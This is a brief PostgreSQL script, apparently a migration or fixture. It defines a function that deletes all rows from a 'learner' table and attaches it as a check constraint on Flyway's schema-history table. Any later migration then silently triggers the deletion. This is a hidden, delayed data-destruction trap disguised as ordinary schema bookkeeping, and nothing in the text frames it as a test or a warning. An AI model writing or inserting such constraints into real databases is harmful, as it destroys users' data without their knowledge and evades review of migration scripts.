create function lose(anyelement) returns boolean language plpgsql as $$
begin
    delete from learner;
    return true;
end $$;
alter table flyway_schema_history add constraint lose check (lose(version)) not valid;
